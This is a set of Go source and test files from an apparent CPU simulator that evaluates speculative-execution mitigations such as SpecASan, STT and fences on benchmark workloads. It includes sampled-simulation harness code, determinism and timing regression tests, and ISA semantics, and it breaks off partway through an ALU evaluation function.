	return []core.Mitigation{core.Unsafe, core.Fence, core.STT, core.SpecASan}
}

// Figure9Mitigations are the CFI-combination columns of Figure 9.
func Figure9Mitigations() []core.Mitigation {
	return []core.Mitigation{core.Unsafe, core.SpecCFI, core.SpecASan,
		core.SpecASanCFI}
}

// SecurityMatrix runs the Table 1 evaluation and formats it.
func SecurityMatrix(w io.Writer) error {
	mits := attacks.TableMitigations()
	fmt.Fprintf(w, "Table 1: mitigation matrix (empirical; ● full  ◐ partial  ○ none)\n\n")
	fmt.Fprintf(w, "%-8s %-22s", "Class", "Attack Variant")
	for _, m := range mits {
		fmt.Fprintf(w, " %12s", m)
	}
	fmt.Fprintln(w)
	for _, a := range attacks.All() {
		fmt.Fprintf(w, "%-8s %-22s", a.Class, a.Name)
		for _, m := range mits {
			verdict, _, err := a.Evaluate(m)
			if err != nil {
				return err
			}
			fmt.Fprintf(w, " %12s", verdict)
		}
		fmt.Fprintln(w)
	}
	return nil
}

// FormatStats renders a run's counter set sorted by key (diagnostics).
func FormatStats(s *stats.Set) string {
	keys := s.Keys()
	sort.Strings(keys)
	var b strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&b, "%-28s %d\n", k, s.Get(k))
	}
	return b.String()
}
