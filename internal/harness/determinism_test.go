package harness

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// sweepFingerprint flattens everything observable about a sweep — results,
// errors, and the verbose log bytes — into one comparable string.
func sweepFingerprint(sw *Sweep, log *bytes.Buffer) string {
	var b bytes.Buffer
	for _, bench := range sw.Benchmarks {
		for _, mit := range sw.Mitigations {
			if err := sw.Errors[bench][mit]; err != nil {
				fmt.Fprintf(&b, "%s/%v: err=%v\n", bench, mit, err)
				continue
			}
			r := sw.Results[bench][mit]
			fmt.Fprintf(&b, "%s/%v: cycles=%d committed=%d restricted=%d\n",
				bench, mit, r.Cycles, r.Committed, r.Restricted)
		}
	}
	fmt.Fprintf(&b, "--- log ---\n%s", log.String())
	return b.String()
}

// TestRunSweepParallelDeterminism is the parallel-harness contract: for the
// same inputs, RunSweep with a worker pool must produce results, errors, and
// verbose log output byte-identical to the serial path.
func TestRunSweepParallelDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	specs := []*workloads.Spec{
		workloads.ByName("508.namd_r"),
		workloads.ByName("505.mcf_r"),
	}
	for _, s := range specs {
		if s == nil {
			t.Fatal("workload missing")
		}
	}
	mits := []core.Mitigation{core.Unsafe, core.Fence, core.SpecASan}

	run := func(workers int) string {
		var log bytes.Buffer
		opt := Options{
			Scale: 0.02, MaxCycles: 50_000_000,
			Verbose: true, Log: &log, Workers: workers,
		}
		sw, err := RunSweep(specs, mits, opt)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		return sweepFingerprint(sw, &log)
	}

	serial := run(1)
	for _, workers := range []int{2, 4} {
		if got := run(workers); got != serial {
			t.Errorf("workers=%d diverges from serial:\n-- serial --\n%s\n-- workers=%d --\n%s",
				workers, serial, workers, got)
		}
	}
}

// TestRunSweepMetricsAndTraceDeterminism extends the contract to the
// observability layer: the JSONL metrics stream and a Chrome trace of one
// chosen cell must be byte-identical for any worker count.
func TestRunSweepMetricsAndTraceDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	specs := []*workloads.Spec{
		workloads.ByName("508.namd_r"),
		workloads.ByName("505.mcf_r"),
	}
	mits := []core.Mitigation{core.Unsafe, core.SpecASan}

	run := func(workers int) (string, string) {
		var metrics bytes.Buffer
		var tr *obs.Tracer
		opt := Options{
			Scale: 0.02, MaxCycles: 50_000_000,
			Workers: workers, Metrics: &metrics,
			Attach: func(bench string, mit core.Mitigation, m *cpu.Machine) {
				if bench == "505.mcf_r" && mit == core.SpecASan {
					tr = obs.NewTracer(len(m.Cores), 0)
					m.AttachObs(tr, nil)
				}
			},
		}
		if _, err := RunSweep(specs, mits, opt); err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		if tr == nil {
			t.Fatalf("workers=%d: traced cell never ran", workers)
		}
		var trace bytes.Buffer
		if err := obs.WriteChromeTrace(&trace, tr); err != nil {
			t.Fatal(err)
		}
		return metrics.String(), trace.String()
	}

	serialMetrics, serialTrace := run(1)
	if serialMetrics == "" {
		t.Fatal("metrics stream is empty")
	}
	// One JSONL line per cell, in cell order.
	lines := strings.Split(strings.TrimRight(serialMetrics, "\n"), "\n")
	if len(lines) != len(specs)*len(mits) {
		t.Fatalf("%d metrics lines, want %d", len(lines), len(specs)*len(mits))
	}
	var first obs.MetricsRecord
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil {
		t.Fatal(err)
	}
	if first.Schema != obs.MetricsSchema || first.Bench != "508.namd_r" {
		t.Fatalf("first metrics line = %+v", first)
	}
	for _, workers := range []int{2, 4} {
		gotMetrics, gotTrace := run(workers)
		if gotMetrics != serialMetrics {
			t.Errorf("workers=%d: metrics stream diverges from serial", workers)
		}
		if gotTrace != serialTrace {
			t.Errorf("workers=%d: chrome trace diverges from serial", workers)
		}
	}
}
