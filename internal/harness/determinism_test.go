package harness

import (
	"bytes"
	"fmt"
	"testing"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

// sweepFingerprint flattens everything observable about a sweep — results,
// errors, and the verbose log bytes — into one comparable string.
func sweepFingerprint(sw *Sweep, log *bytes.Buffer) string {
	var b bytes.Buffer
	for _, bench := range sw.Benchmarks {
		for _, mit := range sw.Mitigations {
			if err := sw.Errors[bench][mit]; err != nil {
				fmt.Fprintf(&b, "%s/%v: err=%v\n", bench, mit, err)
				continue
			}
			r := sw.Results[bench][mit]
			fmt.Fprintf(&b, "%s/%v: cycles=%d committed=%d restricted=%d\n",
				bench, mit, r.Cycles, r.Committed, r.Restricted)
		}
	}
	fmt.Fprintf(&b, "--- log ---\n%s", log.String())
	return b.String()
}

// TestRunSweepParallelDeterminism is the parallel-harness contract: for the
// same inputs, RunSweep with a worker pool must produce results, errors, and
// verbose log output byte-identical to the serial path.
func TestRunSweepParallelDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	specs := []*workloads.Spec{
		workloads.ByName("508.namd_r"),
		workloads.ByName("505.mcf_r"),
	}
	for _, s := range specs {
		if s == nil {
			t.Fatal("workload missing")
		}
	}
	mits := []core.Mitigation{core.Unsafe, core.Fence, core.SpecASan}

	run := func(workers int) string {
		var log bytes.Buffer
		opt := Options{
			Scale: 0.02, MaxCycles: 50_000_000,
			Verbose: true, Log: &log, Workers: workers,
		}
		sw, err := RunSweep(specs, mits, opt)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		return sweepFingerprint(sw, &log)
	}

	serial := run(1)
	for _, workers := range []int{2, 4} {
		if got := run(workers); got != serial {
			t.Errorf("workers=%d diverges from serial:\n-- serial --\n%s\n-- workers=%d --\n%s",
				workers, serial, workers, got)
		}
	}
}
