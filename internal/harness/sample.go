package harness

// Fast-forward sampled simulation (SMARTS-style): most of a run executes on
// the functional golden interpreter (hundreds of MIPS, exact architectural
// semantics), and only sampled regions pay cycle-accurate cost. The seam is
// the architectural state transplant (golden.Interp.Snapshot ->
// cpu.NewMachineAt), which is bit-exact by construction and by test
// (internal/cpu transplant tests), so sampling changes *when* detailed cost
// is paid, never what the program computes: Committed and Output are exact,
// Cycles (and Restricted) are estimates extrapolated from the detailed
// regions' post-warmup IPC.
//
// Two modes share the machinery:
//
//   - Tail mode (FastForwardInsts > 0, SampleWindows <= 1): fast-forward N
//     instructions functionally, transplant, warm the cold micro-architecture
//     for WarmupCycles, run the rest detailed. The fast-forwarded prefix's
//     cycles are estimated at the measured IPC.
//   - Windowed mode (SampleWindows > 1): a full functional walk fixes the
//     run's total instruction count and exact output; K evenly-spaced windows
//     of SampleWindowInsts instructions each are then simulated in detail
//     (one progressive functional walk, one transplant per window), and
//     whole-run cycles are extrapolated from the pooled post-warmup IPC.
//
// Fallbacks keep the mode safe to leave enabled: multi-threaded cells (the
// transplant seam is single-core) and programs shorter than the fast-forward
// budget run fully detailed; a golden-visible fault during a functional
// region is reported as a cell fault, mirroring the full path.

import (
	"errors"
	"fmt"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/obs"
	"specasan/internal/stats"
	"specasan/internal/workloads"
)

// errSampleTooShort signals that the program ends before the sampling plan's
// functional region — RunBenchmark falls back to a full detailed run.
var errSampleTooShort = errors.New("program too short to sample")

// warmTouches sizes the functional touch ring replayed into the transplanted
// machine's cache hierarchy. Detailed-cycle warmup alone cannot heal a cold
// hierarchy (the warmed lines are evicted by the same miss storm being
// warmed away); replaying the last ~32k functional touches reconstructs the
// working set the skipped instructions left resident, which is what makes
// the sampled IPC track the full-walk IPC.
const warmTouches = 1 << 15

// config resolves the effective machine configuration.
func (o *Options) config() core.Config {
	if o.Config != nil {
		return *o.Config
	}
	return core.DefaultConfig()
}

// newGolden builds a golden interpreter matching the detailed machine's
// committed semantics (same MTE mode, same IRG tag seed). The frontend seam
// means it fetches from whatever source the detailed machine would — a fresh
// assembly or a replayed trace (cpu.Frontend satisfies golden.Source).
func newGolden(fe cpu.Frontend, mit core.Mitigation) *golden.Interp {
	ip := golden.NewFrom(fe)
	ip.MTEOn = mit.MTEEnabled()
	ip.TagSeed = cpu.TagSeedBase
	return ip
}

// runSampled dispatches a single-core cell to the selected sampling mode.
func runSampled(spec *workloads.Spec, mit core.Mitigation, opt Options) (*PerfResult, error) {
	fe, err := specFrontend(spec, mit, opt)
	if err != nil {
		return nil, err
	}
	if opt.SampleWindows > 1 {
		return runSampledWindows(spec, mit, opt, fe)
	}
	return runSampledTail(spec, mit, opt, fe)
}

// newSampledMachine transplants a golden snapshot into a fresh single-core
// detailed machine and applies the run options' instrumentation hooks.
func newSampledMachine(spec *workloads.Spec, mit core.Mitigation, opt Options,
	fe cpu.Frontend, st *golden.State, met *obs.Metrics) (*cpu.Machine, error) {
	cfg := opt.config()
	cfg.Cores = 1
	m, err := cpu.NewMachineAtFrontend(cfg, mit, fe, st)
	if err != nil {
		return nil, err
	}
	m.SkipIdle = !opt.NoSkipIdle
	if met != nil {
		m.AttachObs(nil, met)
	}
	if opt.Attach != nil {
		opt.Attach(spec.Name, mit, m)
	}
	return m, nil
}

// ffFaultErr reports a golden-visible fault hit during a functional region.
// The full detailed run would commit the same fault (the interpreter defines
// committed-path semantics), so it is a cell fault, not a sampling artefact.
func ffFaultErr(spec *workloads.Spec, mit core.Mitigation, res *golden.Result) error {
	return fmt.Errorf("%s under %v faulted at %#x during functional fast-forward (%v)",
		spec.Name, mit, res.PC, res.Reason)
}

// sampledRunErr converts a detailed-region RunResult into the cell errors
// the full path produces. A warmup leg (final=false) that merely ran out its
// cycle slice is the expected case, not a timeout.
func sampledRunErr(spec *workloads.Spec, mit core.Mitigation, m *cpu.Machine,
	res *cpu.RunResult, final bool) error {
	if res.Err != nil {
		return fmt.Errorf("%s under %v: %w", spec.Name, mit, res.Err)
	}
	if res.Faulted {
		return fmt.Errorf("%s under %v faulted at %#x (core %d)",
			spec.Name, mit, m.Core(res.FaultCore).FaultPC, res.FaultCore)
	}
	if final && res.TimedOut {
		return fmt.Errorf("%s under %v: %w after %d cycles (cores %v still running)",
			spec.Name, mit, ErrTimedOut, res.Cycles, res.TimedOutCores())
	}
	return nil
}

// functionalBudget bounds a functional walk in instructions, derived from
// the detailed cycle budget so escalated-budget retries raise both: a
// detailed run can commit at most a few instructions per cycle, so a walk
// exceeding 8*MaxCycles instructions would have timed out fully detailed too.
func functionalBudget(maxCycles uint64) uint64 {
	const width = 8
	if maxCycles > ^uint64(0)/width {
		return ^uint64(0)
	}
	return maxCycles * width
}

// emitSampled writes the cell's metrics record, annotated with the
// functional/detailed split.
func emitSampled(spec *workloads.Spec, mit core.Mitigation, opt Options,
	met *obs.Metrics, cycles, committed uint64, sampled *obs.SampledRegions) error {
	if met == nil {
		return nil
	}
	rec := met.Record(spec.Name, mit.String(), cycles, committed)
	rec.ScenarioHash = opt.ScenarioHash
	rec.Sampled = sampled
	if err := obs.WriteMetricsLine(opt.Metrics, rec); err != nil {
		return fmt.Errorf("%s under %v: writing metrics: %w", spec.Name, mit, err)
	}
	return nil
}

// runSampledTail is tail mode: functional prefix, one transplant, detailed
// remainder.
func runSampledTail(spec *workloads.Spec, mit core.Mitigation, opt Options,
	fe cpu.Frontend) (*PerfResult, error) {
	ff := opt.FastForwardInsts
	ip := newGolden(fe, mit)
	ip.Touch = golden.NewTouchRing(warmTouches)
	gres := ip.Run(ff)
	switch gres.Reason {
	case golden.StopMaxInsts: // reached the fast-forward point
	case golden.StopExit:
		return nil, errSampleTooShort
	default:
		return nil, ffFaultErr(spec, mit, gres)
	}

	var met *obs.Metrics
	if opt.Metrics != nil {
		met = obs.NewMetrics(1)
	}
	m, err := newSampledMachine(spec, mit, opt, fe, ip.Snapshot(), met)
	if err != nil {
		return nil, err
	}
	m.WarmCaches(ip.Touch)

	// Warm the remaining cold micro-architecture (predictors, TSH), then
	// baseline the counters the IPC estimate uses.
	warm := min(opt.warmup(), opt.MaxCycles)
	if err := sampledRunErr(spec, mit, m, m.Run(warm), false); err != nil {
		return nil, err
	}
	baseCycles, baseCom := m.Cycle(), m.Core(0).Committed()

	res := m.Run(opt.MaxCycles)
	if err := sampledRunErr(spec, mit, m, res, true); err != nil {
		return nil, err
	}

	detCycles, detCom := m.Cycle(), res.Committed
	mCycles, mCom := detCycles-baseCycles, detCom-baseCom
	excluded := baseCycles
	if mCycles == 0 || mCom == 0 {
		// The whole remainder fit inside the warmup budget; measure it whole.
		mCycles, mCom, excluded = detCycles, detCom, 0
	}
	ipc := float64(mCom) / float64(mCycles)
	cycles := uint64(float64(ff)/ipc+0.5) + detCycles
	committed := ff + detCom
	restricted := res.Stats.Get("restricted_commits")
	if detCom > 0 {
		restricted = uint64(float64(restricted)*float64(committed)/float64(detCom) + 0.5)
	}
	sampled := &obs.SampledRegions{
		FunctionalInsts: ff,
		DetailedInsts:   detCom,
		DetailedCycles:  detCycles,
		WarmupCycles:    excluded,
		Windows:         1,
	}
	set := res.Stats
	set.Set("sampled_ff_insts", ff)
	set.Set("sampled_detailed_cycles", detCycles)
	set.Set("sampled_warmup_cycles", excluded)
	opt.logf("  %-18s %-12s sampled ff=%d cycles~%-9d ipc=%.2f restricted~%d",
		spec.Name, mit, ff, cycles, float64(committed)/float64(max(cycles, 1)), restricted)
	if err := emitSampled(spec, mit, opt, met, cycles, committed, sampled); err != nil {
		return nil, err
	}
	return &PerfResult{
		Benchmark:  spec.Name,
		Mitigation: mit,
		Cycles:     cycles,
		Committed:  committed,
		Restricted: restricted,
		Output:     string(m.Core(0).Output),
		Stats:      set,
		Sampled:    sampled,
	}, nil
}

// runSampledWindows is windowed mode: a full functional walk for the exact
// totals, then K evenly-spaced detailed windows pooled into one IPC estimate.
func runSampledWindows(spec *workloads.Spec, mit core.Mitigation, opt Options,
	fe cpu.Frontend) (*PerfResult, error) {
	k := opt.SampleWindows
	winInsts := opt.SampleWindowInsts

	// Pass 1: total instruction count and exact output.
	walk := newGolden(fe, mit)
	fres := walk.Run(functionalBudget(opt.MaxCycles))
	switch fres.Reason {
	case golden.StopExit:
	case golden.StopMaxInsts:
		return nil, fmt.Errorf("%s under %v: functional walk: %w after %d instructions",
			spec.Name, mit, ErrTimedOut, fres.Insts)
	default:
		return nil, ffFaultErr(spec, mit, fres)
	}
	total := fres.Insts
	ff := opt.FastForwardInsts
	if ff >= total {
		return nil, errSampleTooShort
	}
	span := total - ff
	starts := make([]uint64, 0, k)
	for i := 0; i < k; i++ {
		s := ff + span*uint64(i)/uint64(k)
		if n := len(starts); n > 0 && s <= starts[n-1] {
			continue // span smaller than the window count: drop duplicates
		}
		starts = append(starts, s)
	}

	var met *obs.Metrics
	if opt.Metrics != nil {
		met = obs.NewMetrics(1)
	}

	// Pass 2: one progressive functional walk; transplant at each start. The
	// walk's touch ring warms each window's caches with the working set live
	// at that window's start.
	ip := newGolden(fe, mit)
	ip.Touch = golden.NewTouchRing(warmTouches)
	var cur uint64
	pool := stats.NewSet("machine")
	var sumCycles, sumCom, sumDetCycles, sumDetCom uint64
	warm := min(opt.warmup(), opt.MaxCycles)
	for _, s := range starts {
		if s > cur {
			g := ip.Run(s - cur)
			if g.Reason != golden.StopMaxInsts {
				// Pass 1 proved the walk runs `total` instructions cleanly
				// and s < total, so anything else is an engine bug.
				return nil, fmt.Errorf("%s under %v: functional walk stopped early at %d insts (%v)",
					spec.Name, mit, cur+g.Insts, g.Reason)
			}
			cur = s
		}
		m, err := newSampledMachine(spec, mit, opt, fe, ip.Snapshot(), met)
		if err != nil {
			return nil, err
		}
		m.WarmCaches(ip.Touch)
		if err := sampledRunErr(spec, mit, m, m.Run(warm), false); err != nil {
			return nil, err
		}
		baseCycles, baseCom := m.Cycle(), m.Core(0).Committed()
		res := m.RunUntilCommitted(baseCom+winInsts, opt.MaxCycles)
		if err := sampledRunErr(spec, mit, m, res, true); err != nil {
			return nil, err
		}
		detCycles, detCom := m.Cycle(), res.Committed
		mCycles, mCom := detCycles-baseCycles, detCom-baseCom
		if mCycles == 0 || mCom == 0 {
			mCycles, mCom = detCycles, detCom
		}
		sumCycles += mCycles
		sumCom += mCom
		sumDetCycles += detCycles
		sumDetCom += detCom
		pool.Merge(res.Stats)
	}
	if sumCycles == 0 || sumCom == 0 {
		return nil, errSampleTooShort
	}
	ipc := float64(sumCom) / float64(sumCycles)
	cycles := uint64(float64(total)/ipc + 0.5)
	restricted := uint64(float64(pool.Get("restricted_commits"))*float64(total)/
		float64(sumDetCom) + 0.5)
	sampled := &obs.SampledRegions{
		FunctionalInsts: total - min(total, sumDetCom),
		DetailedInsts:   sumDetCom,
		DetailedCycles:  sumDetCycles,
		WarmupCycles:    warm,
		Windows:         len(starts),
	}
	pool.Set("sampled_detailed_cycles", sumDetCycles)
	pool.Set("sampled_warmup_cycles", warm)
	pool.Set("sampled_windows", uint64(len(starts)))
	opt.logf("  %-18s %-12s sampled windows=%d cycles~%-9d ipc=%.2f restricted~%d",
		spec.Name, mit, len(starts), cycles, ipc, restricted)
	if err := emitSampled(spec, mit, opt, met, cycles, total, sampled); err != nil {
		return nil, err
	}
	return &PerfResult{
		Benchmark:  spec.Name,
		Mitigation: mit,
		Cycles:     cycles,
		Committed:  total,
		Restricted: restricted,
		Output:     string(fres.Output),
		Stats:      pool,
		Sampled:    sampled,
	}, nil
}
