package harness

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

// timingPin is a (cycles, committed) pair captured from the simulator before
// the O(1) rename/wakeup structures replaced the per-instruction window
// scans (scale 0.05, default config).
type timingPin struct {
	cycles    uint64
	committed uint64
}

// TestTimingPins asserts the incremental rename/wakeup pipeline is
// timing-EQUIVALENT to the linear scans it replaced: the optimization may
// only change host speed, never a single simulated cycle. Any drift here is
// a behaviour change, not a perf win — fix the structures, do not update
// the pins.
func TestTimingPins(t *testing.T) {
	pins := map[string]map[core.Mitigation]timingPin{
		"500.perlbench_r": {
			core.Unsafe:      {135150, 97490},
			core.Fence:       {284440, 97490},
			core.STT:         {160399, 97490},
			core.GhostMinion: {161865, 97490},
			core.SpecASan:    {135815, 101589},
		},
		"505.mcf_r": {
			core.Unsafe:      {51761, 40646},
			core.Fence:       {129671, 40646},
			core.STT:         {58433, 40646},
			core.GhostMinion: {58018, 40646},
			core.SpecASan:    {54126, 48841},
		},
		"508.namd_r": {
			core.Unsafe:      {24986, 69568},
			core.Fence:       {44544, 69568},
			core.STT:         {24986, 69568},
			core.GhostMinion: {24986, 69568},
			core.SpecASan:    {25768, 72643},
		},
		"canneal": {
			core.Unsafe:      {53457, 85834},
			core.Fence:       {80310, 85834},
			core.STT:         {53578, 85834},
			core.GhostMinion: {60806, 85834},
			core.SpecASan:    {55283, 94038},
		},
	}
	opt := Options{Scale: 0.05, MaxCycles: 50_000_000}
	for name, byMit := range pins {
		spec := workloads.ByName(name)
		if spec == nil {
			t.Fatalf("unknown workload %q", name)
		}
		for mit, pin := range byMit {
			r, err := RunBenchmark(spec, mit, opt)
			if err != nil {
				t.Errorf("%s/%s: %v", name, mit, err)
				continue
			}
			if r.Cycles != pin.cycles || r.Committed != pin.committed {
				t.Errorf("%s/%s: got %d cycles / %d committed, pinned %d / %d",
					name, mit, r.Cycles, r.Committed, pin.cycles, pin.committed)
			}
		}
	}
}
