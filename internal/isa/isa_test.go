package isa

import (
	"testing"
	"testing/quick"
)

func TestCondHolds(t *testing.T) {
	cases := []struct {
		c    Cond
		f    Flags
		want bool
	}{
		{EQ, Flags{Z: true}, true},
		{EQ, Flags{}, false},
		{NE, Flags{}, true},
		{HS, Flags{C: true}, true},
		{LO, Flags{C: true}, false},
		{MI, Flags{N: true}, true},
		{GE, Flags{N: true, V: true}, true},
		{GE, Flags{N: true}, false},
		{LT, Flags{N: true}, true},
		{GT, Flags{}, true},
		{GT, Flags{Z: true}, false},
		{LE, Flags{Z: true}, true},
		{HI, Flags{C: true}, true},
		{HI, Flags{C: true, Z: true}, false},
		{LS, Flags{}, true},
		{AL, Flags{}, true},
	}
	for _, c := range cases {
		if got := c.c.Holds(c.f); got != c.want {
			t.Errorf("%v.Holds(%+v) = %v, want %v", c.c, c.f, got, c.want)
		}
	}
}

func TestSubFlagsMatchComparisonSemantics(t *testing.T) {
	// Property: after CMP a,b the standard condition codes must agree with
	// Go's comparisons.
	f := func(a, b uint64) bool {
		_, fl := subFlags(a, b)
		if EQ.Holds(fl) != (a == b) {
			return false
		}
		if LO.Holds(fl) != (a < b) {
			return false
		}
		if HS.Holds(fl) != (a >= b) {
			return false
		}
		if HI.Holds(fl) != (a > b) {
			return false
		}
		if LT.Holds(fl) != (int64(a) < int64(b)) {
			return false
		}
		if GE.Holds(fl) != (int64(a) >= int64(b)) {
			return false
		}
		if GT.Holds(fl) != (int64(a) > int64(b)) {
			return false
		}
		if LE.Holds(fl) != (int64(a) <= int64(b)) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}

func TestEvalALUBasics(t *testing.T) {
	eval := func(op Op, rn, rm uint64, imm bool) uint64 {
		in := &Inst{Op: op, HasImm: false}
		return EvalALU(in, ALUInputs{Rn: rn, Rm: rm}).Value
	}
	if eval(ADD, 2, 3, false) != 5 || eval(SUB, 2, 3, false) != ^uint64(0) {
		t.Fatal("add/sub wrong")
	}
	if eval(MUL, 7, 6, false) != 42 || eval(UDIV, 42, 6, false) != 7 {
		t.Fatal("mul/div wrong")
	}
	if eval(UDIV, 42, 0, false) != 0 || eval(SDIV, 42, 0, false) != 0 {
		t.Fatal("ARM divide-by-zero must yield 0")
	}
	if eval(LSL, 1, 65, false) != 0 || eval(LSR, ^uint64(0), 64, false) != 0 {
		t.Fatal("oversized shifts must zero")
	}
	if eval(ASR, 1<<63, 63, false) != ^uint64(0) {
		t.Fatal("asr must sign-extend")
	}
}

func TestEvalALUTagOps(t *testing.T) {
	// IRG produces a non-zero key; ADDG advances address and tag.
	irg := EvalALU(&Inst{Op: IRG}, ALUInputs{Rn: 0x1000}).Value
	if irg>>56&0xf == 0 {
		t.Fatal("IRG must produce a non-zero key")
	}
	addg := EvalALU(&Inst{Op: ADDG, Imm: 32, Imm2: 1, HasImm: true},
		ALUInputs{Rn: irg}).Value
	if addg&^(uint64(0xff)<<56) != (irg&^(uint64(0xff)<<56))+32 {
		t.Fatal("ADDG address math wrong")
	}
	if (addg>>56&0xf)-(irg>>56&0xf) != 1 {
		t.Fatal("ADDG tag offset wrong")
	}
	// GMI accumulates the exclusion mask.
	gmi := EvalALU(&Inst{Op: GMI}, ALUInputs{Rn: irg, Rm: 0}).Value
	if gmi != 1<<(irg>>56&0xf) {
		t.Fatal("GMI mask wrong")
	}
	// IRG with everything excluded except one tag must pick that tag.
	one := EvalALU(&Inst{Op: IRG, Rm: X1}, ALUInputs{Rn: 0x1000, Rm: 0xffff &^ (1 << 9)}).Value
	if one>>56&0xf != 9 {
		t.Fatalf("IRG with exclusion picked %d, want 9", one>>56&0xf)
	}
}

func TestEvalBranch(t *testing.T) {
	pc := uint64(0x1000)
	b := EvalBranch(&Inst{Op: B, Imm: 0x2000}, pc, 0, Flags{})
	if !b.Taken || b.Target != 0x2000 {
		t.Fatal("B wrong")
	}
	bl := EvalBranch(&Inst{Op: BL, Imm: 0x2000}, pc, 0, Flags{})
	if !bl.WritesLink || bl.Link != pc+4 {
		t.Fatal("BL link wrong")
	}
	cbz := EvalBranch(&Inst{Op: CBZ, Imm: 0x2000}, pc, 0, Flags{})
	if !cbz.Taken {
		t.Fatal("CBZ with zero must take")
	}
	cbnz := EvalBranch(&Inst{Op: CBNZ, Imm: 0x2000}, pc, 0, Flags{})
	if cbnz.Taken || cbnz.Target != pc+4 {
		t.Fatal("CBNZ with zero must fall through")
	}
	bcc := EvalBranch(&Inst{Op: BCC, Cond: EQ, Imm: 0x2000}, pc, 0, Flags{Z: true})
	if !bcc.Taken {
		t.Fatal("B.EQ with Z must take")
	}
	ret := EvalBranch(&Inst{Op: RET, Rn: LR}, pc, 0x3000, Flags{})
	if !ret.Taken || ret.Target != 0x3000 {
		t.Fatal("RET wrong")
	}
}

func TestSrcsAndDsts(t *testing.T) {
	var buf [4]Reg
	ldr := &Inst{Op: LDR, Rd: X1, Rn: X2, Rm: X3}
	srcs := ldr.Srcs(buf[:0])
	if len(srcs) != 2 || srcs[0] != X2 || srcs[1] != X3 {
		t.Fatalf("LDR srcs = %v", srcs)
	}
	var dbuf [2]Reg
	if d := ldr.Dsts(dbuf[:0]); len(d) != 1 || d[0] != X1 {
		t.Fatalf("LDR dsts = %v", d)
	}
	str := &Inst{Op: STR, Rd: X1, Rn: X2, Imm: 8, HasImm: true}
	if s := str.Srcs(buf[:0]); len(s) != 2 || s[0] != X1 || s[1] != X2 {
		t.Fatalf("STR srcs = %v", s)
	}
	if d := str.Dsts(dbuf[:0]); len(d) != 0 {
		t.Fatalf("STR dsts = %v", d)
	}
	// XZR destination writes are discarded.
	mov := &Inst{Op: MOV, Rd: XZR, Imm: 1, HasImm: true}
	if d := mov.Dsts(dbuf[:0]); len(d) != 0 {
		t.Fatalf("XZR dst = %v", d)
	}
	swp := &Inst{Op: SWPAL, Rd: X1, Rm: X2, Rn: X3}
	if d := swp.Dsts(dbuf[:0]); len(d) != 1 || d[0] != X2 {
		t.Fatalf("SWPAL dst = %v", d)
	}
}

func TestClassify(t *testing.T) {
	cases := map[Op]Class{
		ADD: ClassALU, MUL: ClassMulDiv, LDR: ClassLoad, STR: ClassStore,
		SWPAL: ClassAtomic, B: ClassBranch, BR: ClassIndirect,
		RET: ClassIndirect, STG: ClassTagOp, SVC: ClassSystem, NOP: ClassNop,
		BTI: ClassNop, CSEL: ClassALU, IRG: ClassALU,
	}
	for op, want := range cases {
		in := &Inst{Op: op}
		if got := in.Classify(); got != want {
			t.Errorf("%v class = %v, want %v", op, got, want)
		}
	}
}

func TestMemBytes(t *testing.T) {
	for op, want := range map[Op]int{LDR: 8, LDRB: 1, STR: 8, STRB: 1, SWPAL: 8, STG: 16, DC: 64, ADD: 0} {
		in := &Inst{Op: op}
		if got := in.MemBytes(); got != want {
			t.Errorf("%v bytes = %d, want %d", op, got, want)
		}
	}
}
