package isa

// This file defines the functional semantics of the ISA's register-to-
// register operations. Both the golden reference interpreter and the
// out-of-order core's execute stage call these helpers, so differential
// tests compare timing models against a single source of semantic truth.

// ALUInputs carries the register values an ALU operation reads.
type ALUInputs struct {
	Rn    uint64
	Rm    uint64
	OldRd uint64 // MOVK reads its destination
	Flags Flags  // CSEL reads flags
	// TagSeed perturbs IRG's deterministic tag choice per machine so that
	// different runs can use different colorings while any single machine
	// (and its golden twin) stays reproducible.
	TagSeed uint64
}

// ALUResult is the outcome of an ALU operation.
type ALUResult struct {
	Value       uint64
	Flags       Flags
	WritesFlags bool
}

// tagField manipulates the 4-bit MTE tag in pointer bits 56..59. These tiny
// helpers are duplicated from package mte to keep isa dependency-free; the
// mte package's tests cross-check them.
const tagShift = 56
const tagMask = uint64(0xf) << tagShift

func ptrTag(p uint64) uint64       { return p >> tagShift & 0xf }
func withTag(p, t uint64) uint64   { return p&^tagMask | (t&0xf)<<tagShift }
func addSat4(t, off uint64) uint64 { return (t + off) & 0xf }
func chooseTag(seed uint64, exclude uint64) uint64 {
	exclude |= 1 // never generate the wildcard tag 0
	avail := make([]uint64, 0, 16)
	for t := uint64(1); t < 16; t++ {
		if exclude&(1<<t) == 0 {
			avail = append(avail, t)
		}
	}
	if len(avail) == 0 {
		return 0
	}
	h := seed*6364136223846793005 + 1442695040888963407
	return avail[(h>>33)%uint64(len(avail))]
}

// EvalALU computes the functional result of a data-processing instruction.
// The caller resolves register operands (honouring XZR) and immediates: rm
// is either the Rm register value or the immediate, as selected by HasImm.
func EvalALU(in *Inst, input ALUInputs) ALUResult {
	rn, rm := input.Rn, input.Rm
	switch in.Op {
	case MOV:
		if in.HasImm {
			return ALUResult{Value: uint64(in.Imm)}
		}
		return ALUResult{Value: rn}
	case MOVK:
		shift := uint(in.Imm2)
		mask := uint64(0xffff) << shift
		return ALUResult{Value: input.OldRd&^mask | uint64(in.Imm)&0xffff<<shift}
	case ADD:
		return ALUResult{Value: rn + rm}
	case ADDS:
		v, f := addFlags(rn, rm)
		return ALUResult{Value: v, Flags: f, WritesFlags: true}
	case SUB:
		return ALUResult{Value: rn - rm}
	case SUBS, CMP:
		v, f := subFlags(rn, rm)
		return ALUResult{Value: v, Flags: f, WritesFlags: true}
